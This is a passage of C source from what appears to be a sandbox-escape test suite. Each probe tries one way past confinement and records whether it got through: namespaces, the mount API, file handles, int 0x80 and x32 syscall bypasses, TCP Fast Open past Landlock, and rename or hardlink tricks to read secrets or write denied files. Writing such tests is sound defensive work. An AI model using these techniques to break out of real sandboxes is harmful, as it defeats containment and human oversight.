	pid_t pid = (pid_t)syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);

	if (pid == 0)
		_exit(0);
	if (pid < 0)
		return failed("clone NEWUSER");
	return judged_child(pid, "clone NEWUSER");
}

PROBE(clone3_user_namespace)
{
	UNUSED_ARGS;
	struct clone_args args = { .flags = CLONE_NEWUSER, .exit_signal = SIGCHLD };
	pid_t pid = (pid_t)syscall(SYS_clone3, &args, sizeof args);

	if (pid == 0)
		_exit(0);
	if (pid < 0)
		return failed("clone3 NEWUSER");
	return judged_child(pid, "clone3 NEWUSER");
}

static int new_tmpfs(void)
{
	int context = (int)syscall(SYS_fsopen, "tmpfs", 1 /* FSOPEN_CLOEXEC */);

	if (context < 0 || syscall(SYS_fsconfig, context, 6 /* FSCONFIG_CMD_CREATE */, NULL, NULL, 0) < 0)
		return -1;
	return (int)syscall(SYS_fsmount, context, 1, 0);
}

PROBE(fs_open)
{
	UNUSED_ARGS;
	return judged(syscall(SYS_fsopen, "tmpfs", 1), "fsopen");
}

PROBE(fs_mount)
{
	UNUSED_ARGS;
	return judged(new_tmpfs(), "fsopen, fsconfig, fsmount");
}

PROBE(fs_pick)
{
	UNUSED_ARGS;
	return judged(syscall(SYS_fspick, AT_FDCWD, "/", 1), "fspick");
}

PROBE(clone_tree)
{
	UNUSED_ARGS;
	return judged(syscall(SYS_open_tree, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */ | O_CLOEXEC | AT_RECURSIVE), "open_tree CLONE");
}

PROBE(clone_tree_attr)
{
	UNUSED_ARGS;
	uint64_t attr[4] = { 0, 0, 0, 0 };

	return judged(syscall(NR_open_tree_attr, AT_FDCWD, "/", 1 | O_CLOEXEC | AT_RECURSIVE, attr, sizeof attr), "open_tree_attr CLONE");
}

PROBE(move_tree)
{
	NEED(1);
	int tree = new_tmpfs();

	if (tree < 0) /* still make the call: a filter has to stop this one too */
		tree = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
	return judged(syscall(SYS_move_mount, tree, "", AT_FDCWD, argv[1], 4 /* MOVE_MOUNT_F_EMPTY_PATH */), "move_mount");
}

PROBE(set_mount_attributes)
{
	UNUSED_ARGS;
	uint64_t attr[4] = { 0, 0, 0, 0 }; /* changes nothing, but needs the right to change */

	return judged(syscall(SYS_mount_setattr, AT_FDCWD, "/", 0, attr, sizeof attr), "mount_setattr");
}

struct handle {
	struct file_handle head;
	unsigned char bytes[MAX_HANDLE_SZ];
};

PROBE(open_handle)
{
	NEED(2); /* TYPE:HEX of a file outside the view, then a directory on the same filesystem */
	struct handle handle = { .head = { 0 } };
	char *hex = strchr(argv[1], ':');
	int here = open(argv[2], O_RDONLY | O_DIRECTORY | O_CLOEXEC);

	if (!hex)
		return MISUSED;
	handle.head.handle_type = (int)number(argv[1]);
	for (hex++; hex[0] && hex[1]; hex += 2) {
		unsigned byte;

		sscanf(hex, "%2x", &byte);
		handle.head.f_handle[handle.head.handle_bytes++] = (unsigned char)byte;
	}
	int fd = open_by_handle_at(here, &handle.head, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return failed("open_by_handle_at");
	return take_secret(fd, "open_by_handle_at");
}

PROBE(make_handle)
{
	UNUSED_ARGS;
	struct handle handle = { .head = { .handle_bytes = MAX_HANDLE_SZ } };
	int mount_id;

	return judged(name_to_handle_at(AT_FDCWD, ".", &handle.head, &mount_id, 0), "name_to_handle_at");
}

PROBE(load_kernel)
{
	UNUSED_ARGS; /* more segments than there can be: loads nothing and unloads nothing */
	return reached(syscall(SYS_kexec_load, 0, 10000, NULL, 0), "kexec_load", EINVAL);
}

PROBE(load_kernel_file)
{
	UNUSED_ARGS; /* flags that do not exist */
	return reached(syscall(SYS_kexec_file_load, -1, -1, 0, NULL, 0x80000000UL), "kexec_file_load", EINVAL);
}

PROBE(load_module)
{
	UNUSED_ARGS; /* nothing is no module */
	return reached(syscall(SYS_init_module, "", 0, ""), "init_module", ENOEXEC);
}

PROBE(load_module_file)
{
	UNUSED_ARGS; /* flags that do not exist */
	return reached(syscall(SYS_finit_module, -1, "", 0x8000), "finit_module", EINVAL);
}

PROBE(unload_module)
{
	UNUSED_ARGS;
	return reached(syscall(SYS_delete_module, "no_such_module_at_all", O_NONBLOCK), "delete_module", ENOENT);
}

PROBE(swap_on)
{
	UNUSED_ARGS;
	return reached(syscall(SYS_swapon, "/no/such/file", 0), "swapon", ENOENT);
}

PROBE(swap_off)
{
	UNUSED_ARGS;
	return reached(syscall(SYS_swapoff, "/no/such/file"), "swapoff", ENOENT);
}

PROBE(restart_machine)
{
	UNUSED_ARGS; /* the magic numbers are wrong */
	return reached(syscall(SYS_reboot, 1, 2, 3, NULL), "reboot", EINVAL);
}

PROBE(accounting)
{
	UNUSED_ARGS;
	return reached(syscall(SYS_acct, "/no/such/file"), "acct", ENOENT);
}

PROBE(kernel_log)
{
	UNUSED_ARGS;
	char text[256];

	return judged(syscall(SYS_syslog, 3 /* READ_ALL */, text, sizeof text), "syslog");
}

PROBE(io_privilege)
{
	UNUSED_ARGS;
#ifdef SYS_iopl
	return judged(syscall(SYS_iopl, 3), "iopl");
#else
	return cannot("not this architecture");
#endif
}

PROBE(io_ports)
{
	UNUSED_ARGS;
#ifdef SYS_ioperm
	return judged(syscall(SYS_ioperm, 0x80, 1, 1), "ioperm");
#else
	return cannot("not this architecture");
#endif
}

PROBE(set_time_of_day)
{
	UNUSED_ARGS; /* neither time nor zone: checks the right, changes nothing */
	return judged(syscall(SYS_settimeofday, NULL, NULL), "settimeofday");
}

PROBE(set_clock)
{
	UNUSED_ARGS; /* not a time: the kernel refuses it, so only a filter can refuse it differently */
	struct timespec t = { 0, -1 };

	return reached(syscall(SYS_clock_settime, CLOCK_REALTIME, &t), "clock_settime", EINVAL);
}

PROBE(adjust_clock)
{
	UNUSED_ARGS;
	struct timex t = { .modes = 0 };

	if (adjtimex(&t) < 0)
		return failed("adjtimex");
	t.modes = ADJ_TICK; /* the tick it has */
	return judged(adjtimex(&t), "adjtimex");
}

PROBE(set_host_name)
{
	UNUSED_ARGS;
	struct utsname names;

	uname(&names);
	return judged(sethostname(names.nodename, strlen(names.nodename)), "sethostname to what it is");
}

PROBE(set_domain_name)
{
	UNUSED_ARGS;
	struct utsname names;

	uname(&names);
	return judged(setdomainname(names.domainname, strlen(names.domainname)), "setdomainname to what it is");
}

PROBE(x32_call)
{
	UNUSED_ARGS;
#ifdef __x86_64__
	long rc = syscall((long)(X32_BIT | SYS_getpid));

	if (rc != getpid())
		return failed("getpid by its x32 number");
	return won("getpid by its x32 number");
#else
	return cannot("not this architecture");
#endif
}

#ifdef __x86_64__
/* The 32-bit door. Its pointers have 32 bits, so everything it is shown lives in `low`. */
static long int80(long number, long a, long b, long c)
{
	long rc;

	__asm__ volatile("int $0x80" : "=a"(rc) : "a"(number), "b"(a), "c"(b), "d"(c) : "r8", "r9", "r10", "r11", "memory");
	return (int)rc;
}

static void no_such_door(int signal)
{
	static const char line[] = "not attempted: int 0x80: no such entry in this kernel\n";

	(void)signal;
	if (write(1, line, sizeof line - 1) < 0)
		_exit(CANNOT);
	_exit(CANNOT);
}

static char *low(void)
{
	signal(SIGSEGV, no_such_door);
	return mmap(NULL, 65536, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
}
#endif

PROBE(int80_getpid)
{
	UNUSED_ARGS;
#ifdef __x86_64__
	low();
	long rc = int80(20, 0, 0, 0);

	if (rc != getpid()) {
		errno = (int)-rc;
		return failed("int 0x80");
	}
	return won("getpid by int 0x80");
#else
	return cannot("not this architecture");
#endif
}

PROBE(int80_connect)
{
	NEED(1);
#ifdef __x86_64__
	char *memory = low();
	struct sockaddr_un *address = (void *)(memory + 1024);
	socklen_t length = unix_address(address, argv[1]);
	int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	uint32_t *args = (void *)memory;

	args[0] = (uint32_t)fd;
	args[1] = (uint32_t)(uintptr_t)address;
	args[2] = length;
	patience(fd, 2);
	long rc = int80(102 /* socketcall */, 3 /* SYS_CONNECT */, (long)(uintptr_t)args, 0);
	if (rc < 0) {
		errno = (int)-rc;
		return failed("connect by int 0x80");
	}
	return converse(fd, "connect by int 0x80");
#else
	return cannot("not this architecture");
#endif
}

PROBE(int80_create)
{
	NEED(1);
#ifdef __x86_64__
	char *path = low();

	strcpy(path, argv[1]);
	long rc = int80(8 /* creat */, (long)(uintptr_t)path, 0644, 0);
	errno = rc < 0 ? (int)-rc : 0;
	return judged(rc, "creat by int 0x80");
#else
	return cannot("not this architecture");
#endif
}

PROBE(open_socket)
{
	NEED(3); /* family, type, protocol */
	int fd = socket((int)number(argv[1]), (int)number(argv[2]), (int)number(argv[3]));

	if (fd < 0 && (errno == EAFNOSUPPORT || errno == EPROTONOSUPPORT || errno == ESOCKTNOSUPPORT))
		return cannot("socket: %s", errno_name(errno));
	return judged(fd, "socket");
}

PROBE(host_interfaces)
{
	UNUSED_ARGS;
	struct {
		struct nlmsghdr head;
		struct ifinfomsg body;
	} ask = { .head = { .nlmsg_len = sizeof ask, .nlmsg_type = RTM_GETLINK, .nlmsg_flags = NLM_F_REQUEST | NLM_F_DUMP } };
	static char answer[65536];
	int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);

	if (fd < 0)
		return failed("socket");
	patience(fd, 2);
	if (send(fd, &ask, sizeof ask, 0) < 0)
		return failed("netlink");
	for (;;) {
		int n = (int)recv(fd, answer, sizeof answer, 0);

		if (n <= 0)
			return failed("netlink");
		for (struct nlmsghdr *m = (void *)answer; NLMSG_OK(m, (unsigned)n); m = NLMSG_NEXT(m, n)) {
			if (m->nlmsg_type == NLMSG_DONE || m->nlmsg_type == NLMSG_ERROR)
				return refused("no interface but lo");
			struct ifinfomsg *info = NLMSG_DATA(m);
			if (info->ifi_type != 772 /* ARPHRD_LOOPBACK */)
				return won("netlink shows interface %d of the host", info->ifi_index);
		}
	}
}

PROBE(odd_personality)
{
	UNUSED_ARGS;
	return judged(personality(READ_IMPLIES_EXEC), "personality READ_IMPLIES_EXEC");
}

PROBE(write_ldt)
{
	UNUSED_ARGS;
#ifdef SYS_modify_ldt
	uint32_t entry[4] = { 0, 0, 0xfffff, 0x51 };

	return judged(syscall(SYS_modify_ldt, 0x11, entry, sizeof entry), "modify_ldt");
#else
	return cannot("not this architecture");
#endif
}

PROBE(watch_files)
{
	UNUSED_ARGS;
	return judged(syscall(SYS_fanotify_init, 0x200 /* FAN_REPORT_FID */, O_RDONLY), "fanotify_init");
}

PROBE(hang_up)
{
	UNUSED_ARGS; /* the judge gives it a session without a terminal */
	return judged(syscall(SYS_vhangup), "vhangup");
}

PROBE(quota)
{
	UNUSED_ARGS;
	return judged(syscall(SYS_quotactl, QCMD(Q_SYNC, 0), NULL, 0, NULL), "quotactl");
}

/* ---- setuid bits, device nodes, file capabilities in what is written ------------------------------- */

static int setuid_bit_stuck(const char *path, long rc, const char *how)
{
	struct stat st;

	if (rc < 0)
		return failed(how);
	if (stat(path, &st) < 0)
		return failed("stat");
	if (!(st.st_mode & S_ISUID))
		return refused("%s left no setuid bit", how);
	return won("%s left mode %o", how, st.st_mode & 07777);
}

PROBE(setuid_bit)
{
	NEED(2);
	const char *how = argv[1], *path = argv[2];
	long rc = -1;

	umask(0);
	if (strcmp(how, "chmod") == 0)
		rc = chmod(path, 04755);
	else if (strcmp(how, "fchmod") == 0)
		rc = fchmod(open(path, O_RDONLY | O_CLOEXEC), 04755);
	else if (strcmp(how, "fchmodat") == 0)
		rc = syscall(SYS_fchmodat, AT_FDCWD, path, 04755);
	else if (strcmp(how, "fchmodat2") == 0)
		rc = syscall(NR_fchmodat2, AT_FDCWD, path, 04755, AT_SYMLINK_NOFOLLOW);
	else if (strcmp(how, "open") == 0)
		rc = open(path, O_CREAT | O_WRONLY | O_CLOEXEC, 04755);
	else if (strcmp(how, "creat") == 0)
		rc = syscall(SYS_creat, path, 04755);
	else if (strcmp(how, "openat2") == 0) {
		struct open_how open_how = { .flags = O_CREAT | O_WRONLY | O_CLOEXEC, .mode = 04755 };

		rc = syscall(SYS_openat2, AT_FDCWD, path, &open_how, sizeof open_how);
	} else if (strcmp(how, "mknod") == 0)
		rc = mknod(path, S_IFREG | 04755, 0);
	else if (strcmp(how, "setgid") == 0) {
		struct stat st;

		if (chmod(path, 02755) < 0 || stat(path, &st) < 0)
			return failed("chmod");
		return st.st_mode & S_ISGID ? won("chmod left the setgid bit") : refused("no setgid bit");
	} else
		return MISUSED;
	return setuid_bit_stuck(path, rc, how);
}

PROBE(device_node)
{
	NEED(2);
	return judged(mknod(argv[2], (argv[1][0] == 'b' ? S_IFBLK : S_IFCHR) | 0666, argv[1][0] == 'b' ? 0x0700 : 0x0103), "mknod");
}

PROBE(file_capability)
{
	NEED(1);
	uint32_t data[5] = { 0x02000001, 1u << 13 /* CAP_NET_RAW */, 0, 0, 0 };

	return judged(setxattr(argv[1], "security.capability", data, sizeof data, 0), "setxattr security.capability");
}

/* ---- capabilities and identity --------------------------------------------------------------------- */

static long status_field(const char *name, int base)
{
	char line[256];
	FILE *file = fopen("/proc/self/status", "re");
	size_t length = strlen(name);

	while (file && fgets(line, sizeof line, file))
		if (strncmp(line, name, length) == 0 && line[length] == ':') {
			fclose(file);
			return strtol(line + length + 1, NULL, base);
		}
	if (file)
		fclose(file);
	return -1;
}

PROBE(has_capabilities)
{
	NEED(1);
	long set = status_field(argv[1], 16);

	if (set < 0)
		return cannot("no %s in /proc/self/status", argv[1]);
	return set ? won("%s is %lx", argv[1], set) : refused("%s is empty", argv[1]);
}

PROBE(may_gain_privileges)
{
	UNUSED_ARGS;
	long flag = status_field("NoNewPrivs", 10);

	if (flag < 0)
		return cannot("no NoNewPrivs in /proc/self/status");
	return flag ? refused("NoNewPrivs is set") : won("NoNewPrivs is not set");
}

/* To become another user or group means to be able to read what only they can. */
PROBE(become)
{
	NEED(3);
	unsigned id = (unsigned)number(argv[2]);
	gid_t group = id;
	long rc = strcmp(argv[1], "uid") == 0	? setresuid(id, id, id)
		  : strcmp(argv[1], "gid") == 0 ? setresgid(id, id, id)
						: setgroups(1, &group);

	if (rc < 0)
		return failed(argv[1]);
	return take_secret_at(AT_FDCWD, argv[3]);
}

PROBE(read_secret)
{
	NEED(1);
	return take_secret_at(AT_FDCWD, argv[1]);
}

/* Runs another copy of this program, with a setuid bit or a file capability, that tries to profit from it. */
PROBE(run_privileged_copy)
{
	NEED(3); /* copy, "secret" or "capability", file */
	pid_t pid = fork();
	int status;

	if (pid == 0) {
		if (strcmp(argv[2], "secret") == 0)
			execl(argv[1], argv[1], "dac-override", argv[3], (char *)NULL);
		else
			execl(argv[1], argv[1], "cap-effective", "CapEff", (char *)NULL);
		_exit(REFUSED);
	}
	if (pid < 0 || waitpid(pid, &status, 0) < 0)
		return cannot("fork");
	return WIFEXITED(status) ? WEXITSTATUS(status) : REFUSED;
}

PROBE(stay)
{
	NEED(1);
	rest(strtod(argv[1], NULL)); /* the judge looks at us from outside meanwhile */
	return won("stayed for %s s", argv[1]);
}

PROBE(give_away)
{
	NEED(2);
	uid_t id = (uid_t)number(argv[2]);

	return judged(chown(argv[1], id, id), "chown");
}

PROBE(raise_limit)
{
	UNUSED_ARGS;
	struct rlimit limit;

	if (getrlimit(RLIMIT_NOFILE, &limit) < 0)
		return failed("getrlimit");
	limit.rlim_max++;
	return judged(setrlimit(RLIMIT_NOFILE, &limit), "setrlimit above the hard limit");
}

PROBE(be_rude)
{
	UNUSED_ARGS;
	errno = 0;
	return judged(setpriority(PRIO_PROCESS, 0, getpriority(PRIO_PROCESS, 0) - 1), "setpriority");
}

PROBE(be_realtime)
{
	UNUSED_ARGS;
	struct sched_param param = { .sched_priority = 1 };

	return judged(sched_setscheduler(0, SCHED_FIFO, &param), "sched_setscheduler FIFO");
}

/* ---- other processes, shared memory ---------------------------------------------------------------- */

PROBE(signal_process)
{
	NEED(2);
	pid_t pid = (pid_t)number(argv[2]);

	if (strcmp(argv[1], "kill") == 0)
		return judged(kill(pid, SIGUSR1), "kill");
	if (strcmp(argv[1], "tgkill") == 0)
		return judged(syscall(SYS_tgkill, pid, pid, SIGUSR1), "tgkill");
	if (strcmp(argv[1], "sigqueue") == 0)
		return judged(sigqueue(pid, SIGUSR1, (union sigval){ 0 }), "sigqueue");
	int fd = (int)syscall(SYS_pidfd_open, pid, 0);
	if (fd < 0)
		return failed("pidfd_open");
	return judged(syscall(SYS_pidfd_send_signal, fd, SIGUSR1, NULL, 0), "pidfd_send_signal");
}

/* A process group reaches across pid namespaces. SIGWINCH, because it hurts nobody who did not ask for it. */
PROBE(signal_group)
{
	UNUSED_ARGS;
	return judged(kill(0, SIGWINCH), "kill(0)");
}

PROBE(signal_parent)
{
	UNUSED_ARGS;
	if (getppid() == 0)
		return refused("no parent in sight");
	return judged(kill(getppid(), SIGWINCH), "kill(getppid())");
}

PROBE(limit_process)
{
	NEED(1);
	struct rlimit limit;

	return judged(prlimit((pid_t)number(argv[1]), RLIMIT_CORE, NULL, &limit), "prlimit");
}

PROBE(shared_memory)
{
	NEED(1);
	int id = shmget((key_t)number(argv[1]), 0, 0);

	if (id < 0)
		return failed("shmget");
	char *text = shmat(id, NULL, SHM_RDONLY);
	if (text == (void *)-1)
		return failed("shmat");
	return won("SysV shared memory: %.100s", text);
}

PROBE(message_queue)
{
	NEED(1);
	char text[256] = "";
	mqd_t queue = mq_open(argv[1], O_RDONLY | O_NONBLOCK);

	if (queue == (mqd_t)-1)
		return failed("mq_open");
	if (mq_receive(queue, text, sizeof text, NULL) < 0)
		return failed("mq_receive");
	return won("message queue: %s", text);
}

/* ---- network --------------------------------------------------------------------------------------- */

static socklen_t inet_address(struct sockaddr_storage *out, const char *host, const char *port)
{
	struct sockaddr_in *four = (void *)out;
	struct sockaddr_in6 *six = (void *)out;

	memset(out, 0, sizeof *out);
	if (inet_pton(AF_INET, host, &four->sin_addr) == 1) {
		four->sin_family = AF_INET;
		four->sin_port = htons((uint16_t)number(port));
		return sizeof *four;
	}
	inet_pton(AF_INET6, host, &six->sin6_addr);
	six->sin6_family = AF_INET6;
	six->sin6_port = htons((uint16_t)number(port));
	return sizeof *six;
}

PROBE(tcp_connect)
{
	NEED(2);
	struct sockaddr_storage address;
	socklen_t length = inet_address(&address, argv[1], argv[2]);
	int fd = socket(address.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return failed("socket");
	patience(fd, 2);
	if (connect(fd, (struct sockaddr *)&address, length) < 0)
		return failed("connect");
	return converse(fd, "tcp");
}

/* Data in the SYN: a connection without connect(), which Landlock's rule for TCP does not see. */
PROBE(tcp_fast_open)
{
	NEED(2);
	struct sockaddr_storage address;
	socklen_t length = inet_address(&address, argv[1], argv[2]);
	int fd = socket(address.ss_family, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return failed("socket");
	patience(fd, 2);
	if (sendto(fd, "hello\n", 6, MSG_FASTOPEN | MSG_NOSIGNAL, (struct sockaddr *)&address, length) < 0)
		return failed("sendto FASTOPEN");
	return take_secret(fd, "tcp fast open");
}

PROBE(udp_talk)
{
	NEED(2);
	struct sockaddr_storage address;
	socklen_t length = inet_address(&address, argv[1], argv[2]);
	int fd = socket(address.ss_family, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	if (fd < 0)
		return failed("socket");
	patience(fd, 1.5);
	if (sendto(fd, "hello\n", 6, 0, (struct sockaddr *)&address, length) < 0)
		return failed("sendto");
	return take_secret(fd, "udp");
}

PROBE(ping)
{
	UNUSED_ARGS;
	struct sockaddr_in to = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	struct {
		struct icmphdr head;
		char data[8];
	} packet = { .head = { .type = ICMP_ECHO, .un.echo.id = 0x4c5a } };
	char answer[512];
	uint32_t sum = 0;
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, IPPROTO_ICMP);

	if (fd < 0)
		fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
	if (fd < 0)
		return failed("socket");
	for (size_t i = 0; i < sizeof packet / 2; i++)
		sum += ((uint16_t *)&packet)[i];
	packet.head.checksum = (uint16_t)~((sum & 0xffff) + (sum >> 16));
	patience(fd, 1);
	if (sendto(fd, &packet, sizeof packet, 0, (struct sockaddr *)&to, sizeof to) < 0)
		return failed("sendto");
	return judged(recv(fd, answer, sizeof answer, 0), "ping");
}

static int await_host(int fd)
{
	struct pollfd wait = { fd, POLLIN, 0 };

	if (poll(&wait, 1, 1500) <= 0)
		return refused("nobody came");
	return judged(accept(fd, NULL, NULL), "accept");
}

PROBE(serve_host)
{
	NEED(1);
	struct sockaddr_storage address;
	socklen_t length = inet_address(&address, "0.0.0.0", argv[1]);
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), on = 1;

	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
	if (fd < 0 || bind(fd, (struct sockaddr *)&address, length) < 0 || listen(fd, 5) < 0)
		return failed("bind and listen");
	return await_host(fd);
}

/* listen() without bind() chooses a port by itself; the file tells the judge which. */
PROBE(serve_host_without_bind)
{
	NEED(1);
	struct sockaddr_in address;
	socklen_t length = sizeof address;
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);

	if (fd < 0 || listen(fd, 5) < 0 || getsockname(fd, (struct sockaddr *)&address, &length) < 0)
		return failed("listen");
	FILE *file = fopen(argv[1], "we");
	if (!file)
		return failed(argv[1]);
	fprintf(file, "%d\n", ntohs(address.sin_port));
	fclose(file);
	return await_host(fd);
}

/* ---- files ------------------------------------------------------------------------------------------ */

PROBE(see)
{
	NEED(1);
	struct stat st;

	return judged(lstat(argv[1], &st), "lstat");
}

PROBE(list)
{
	NEED(2); /* directory, a name that is in it */
	DIR *dir = opendir(argv[1]);
	struct dirent *entry;

	if (!dir)
		return failed(argv[1]);
	while ((entry = readdir(dir)))
		if (strcmp(entry->d_name, argv[2]) == 0)
			return won("%s is listed", argv[2]);
	return refused("%s is not listed", argv[2]);
}

PROBE(read_by_own_symlink)
{
	NEED(2);
	if (symlink(argv[1], argv[2]) < 0)
		return failed("symlink");
	int status = take_secret_at(AT_FDCWD, argv[2]);
	unlink(argv[2]);
	return status;
}

PROBE(read_by_link)
{
	NEED(2);
	if (link(argv[1], argv[2]) < 0)
		return failed("link");
	int status = take_secret_at(AT_FDCWD, argv[2]);
	unlink(argv[2]);
	return status;
}

PROBE(read_by_descriptor_path)
{
	NEED(1);
	char path[PATH_MAX], from[64];

	snprintf(from, sizeof from, "/proc/self/fd/%d", open(".", O_PATH | O_DIRECTORY | O_CLOEXEC));
	climb(path, sizeof path, from, argv[1]);
	return take_secret_at(AT_FDCWD, path);
}

PROBE(read_by_opath)
{
	NEED(1);
	char path[64];
	int fd = open(argv[1], O_PATH | O_CLOEXEC);

	if (fd < 0)
		return failed("open O_PATH");
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	return take_secret_at(AT_FDCWD, path);
}

PROBE(read_below)
{
	NEED(3); /* "chdir" or "dirfd", directory, name */
	int dir = open(argv[2], (argv[1][0] == 'd' ? O_PATH : O_RDONLY) | O_DIRECTORY | O_CLOEXEC);

	if (strcmp(argv[1], "chdir") == 0) {
		if (chdir(argv[2]) < 0)
			return failed("chdir");
		return take_secret_at(AT_FDCWD, argv[3]);
	}
	if (dir < 0)
		return failed(argv[2]);
	return take_secret_at(dir, argv[3]);
}

PROBE(read_after_renaming_parent)
{
	NEED(3); /* parent, its new name, file below it */
	char path[PATH_MAX];

	if (rename(argv[1], argv[2]) < 0)
		return failed("rename");
	snprintf(path, sizeof path, "%s/%s", argv[2], argv[3]);
	int status = take_secret_at(AT_FDCWD, path);
	rename(argv[2], argv[1]);
	return status;
}

PROBE(write_after_renaming_parent)
{
	NEED(3);
	char path[PATH_MAX];

	if (rename(argv[1], argv[2]) < 0)
		return failed("rename");
	snprintf(path, sizeof path, "%s/%s", argv[2], argv[3]);
	int status = spoil(open(path, O_WRONLY | O_APPEND | O_CLOEXEC), path);
	rename(argv[2], argv[1]);
	return status;
}

PROBE(replace_by_swapping_parent)
{
	NEED(3); /* parent, aside, file below it */
	char path[PATH_MAX];

	if (rename(argv[1], argv[2]) < 0 || mkdir(argv[1], 0755) < 0)
		return failed("rename");
	snprintf(path, sizeof path, "%s/%s", argv[1], argv[3]);
	int status = spoil(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644), path);
	if (status != WON) { /* put it back as it was */
		rmdir(argv[1]);
		rename(argv[2], argv[1]);
	}
	return status;
}

PROBE(write_file)
{
	NEED(1);
	return spoil(open(argv[1], O_WRONLY | O_APPEND | O_CLOEXEC), argv[1]);
}

PROBE(write_by_link)
{
	NEED(2);
	if (link(argv[1], argv[2]) < 0)
		return failed("link");
	int status = spoil(open(argv[2], O_WRONLY | O_APPEND | O_CLOEXEC), argv[2]);
	unlink(argv[2]);
	return status;
}

PROBE(write_by_reopening)
{
	NEED(1);
	char path[64];
	int fd = open(argv[1], O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return failed(argv[1]);
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	return spoil(open(path, O_WRONLY | O_APPEND | O_CLOEXEC), path);
}

PROBE(cut_file)
{
	NEED(1);
	return judged(truncate(argv[1], 0), "truncate");
}

PROBE(change_mode)
{
	NEED(1);
	return judged(chmod(argv[1], 0600), "chmod");
}

PROBE(change_times)
{
	NEED(1);
	struct timespec times[2] = { { 1, 0 }, { 1, 0 } };

	return judged(utimensat(AT_FDCWD, argv[1], times, 0), "utimensat");
}

PROBE(change_attribute)
{
	NEED(1);
	return judged(setxattr(argv[1], "user.lazaret", "x", 1, 0), "setxattr");
}

PROBE(rename_file)
{
	NEED(2);
	return judged(rename(argv[1], argv[2]), "rename");
}

/* The secret under a name that nobody denied. */
PROBE(read_after_exchange)
{
	NEED(2);
	if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) < 0)
		return failed("renameat2 EXCHANGE");
	return take_secret_at(AT_FDCWD, argv[2]);
}

PROBE(read_after_rename)
{
	NEED(2);
	if (rename(argv[1], argv[2]) < 0)
		return failed("rename");
	return take_secret_at(AT_FDCWD, argv[2]);
}

PROBE(remove_file)
{
	NEED(1);
	return judged(unlink(argv[1]), "unlink");
}

PROBE(open_device)
{
	NEED(1);
	bool seen = false;
	int error = ENOENT;
	char text[16];

	for (int i = 1; i < argc; i++) {
		int fd = open(argv[i], O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);

		if (fd >= 0) {
			struct stat st;

			if (fstat(fd, &st) < 0 || !(S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode)))
				return refused("%s is no device here", argv[i]);
			if (S_ISBLK(st.st_mode) && read(fd, text, sizeof text) < 0)
				return failed(argv[i]);
			return won("%s is open", argv[i]);
		}
		if (errno != ENOENT) {
			seen = true;
			error = errno;
		}
	}
	if (!seen)
		return cannot("%s: ENOENT", argv[1]);
	return refused("%s: %s", argv[1], errno_name(error));
}

/* Every way to make a name appear. argv[1] how, argv[2] the name, argv[3] something that is there already. */
PROBE(appear)
{
	NEED(2);
	const char *how = argv[1], *path = argv[2], *other = argc > 3 ? argv[3] : "";

	if (strcmp(how, "open") == 0)
		return spoil(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644), path);
	if (strcmp(how, "creat") == 0)
		return spoil((int)syscall(SYS_creat, path, 0644), path);
	if (strcmp(how, "openat2") == 0) {
		struct open_how open_how = { .flags = O_CREAT | O_WRONLY | O_CLOEXEC, .mode = 0644 };

		return spoil((int)syscall(SYS_openat2, AT_FDCWD, path, &open_how, sizeof open_how), path);
	}
	if (strcmp(how, "mkdir") == 0)
		return judged(mkdir(path, 0755), "mkdir");
	if (strcmp(how, "rename") == 0)
		return judged(rename(other, path), "rename");
	if (strcmp(how, "renameat2") == 0)
		return judged(renameat2(AT_FDCWD, other, AT_FDCWD, path, RENAME_NOREPLACE), "renameat2 NOREPLACE");
	if (strcmp(how, "link") == 0)
		return judged(link(other, path), "link");
	if (strcmp(how, "symlink") == 0)
		return judged(symlink(other, path), "symlink");
	if (strcmp(how, "fifo") == 0)
		return judged(mkfifo(path, 0644), "mkfifo");
	if (strcmp(how, "mknod") == 0)
		return judged(mknod(path, S_IFREG | 0644, 0), "mknod");
	if (strcmp(how, "bind") == 0) {
		struct sockaddr_un address;
		int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);

		if (chdir(other) < 0) /* socket names are short: a relative one */
			return failed("chdir");
		socklen_t length = unix_address(&address, path);
		return judged(bind(fd, (struct sockaddr *)&address, length), "bind");
	}
	if (strcmp(how, "dangling") == 0) {
		if (symlink(path, other) < 0)
			return failed("symlink");
		return spoil(open(other, O_WRONLY | O_CREAT | O_CLOEXEC, 0644), other);
	}
	if (strcmp(how, "dirfd") == 0) {
		int dir = open(other, O_PATH | O_DIRECTORY | O_CLOEXEC);

		return spoil(openat(dir, path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644), path);
	}
	if (strcmp(how, "chdir") == 0) {
		if (chdir(other) < 0)
			return failed("chdir");
		return spoil(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644), path);
	}
	if (strcmp(how, "mkdir-then-open") == 0) {
		if (mkdir(other, 0755) < 0)
			return failed("mkdir");
		return spoil(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644), path);
	}
